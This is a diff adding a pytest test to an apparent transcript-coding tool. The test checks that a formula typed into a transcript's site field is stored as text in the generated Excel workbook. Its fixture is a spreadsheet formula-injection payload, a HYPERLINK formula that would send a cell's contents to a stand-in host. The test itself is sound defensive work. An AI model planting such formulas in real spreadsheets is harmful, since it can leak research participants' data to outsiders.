@@ -270,3 +270,21 @@ def test_the_disclosure_scan_reads_the_themes_docx(tmp_path):
     clean = quotes.assign(quote_display="I trust [name].")
     write_themes_docx(BOOK, generated, clean, tmp_path / "run" / "themes.docx")
     assert check_disclosure(tmp_path / "run", register=["SYN-NS-0003"]).empty  # readable, so no unscanned_file
+
+
+def test_framework_xlsx_never_writes_a_formula(tmp_path, write_transcript):
+    """A site name typed as a formula in a transcript header (hostile or careless) stays text in the workbook:
+    openpyxl stores any string starting with '=' as a live formula unless told otherwise."""
+    from openpyxl import load_workbook
+
+    site = '=HYPERLINK("http://example.invalid/?leak="&A3,"open")'
+    write_transcript("a.txt", "Sam: How was it?\nAmy: I trust her now.\n",
+                     head=_head("Amy", "mentee", site, "2025-02-01"))
+    corpus = read_transcripts(tmp_path)
+    coded = _human(corpus, [("a", "I trust her now.", "trusting")])
+    people = corpus.participants()
+    entries = framework_entries(coded, people, BOOK, names=["Amy"])
+    sheet = load_workbook(write_framework_xlsx(entries, people, BOOK, tmp_path / "f.xlsx"))["Trust"]
+    assert sheet["C3"].value == site and sheet["C3"].data_type == "s"  # shown as typed, never evaluated
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
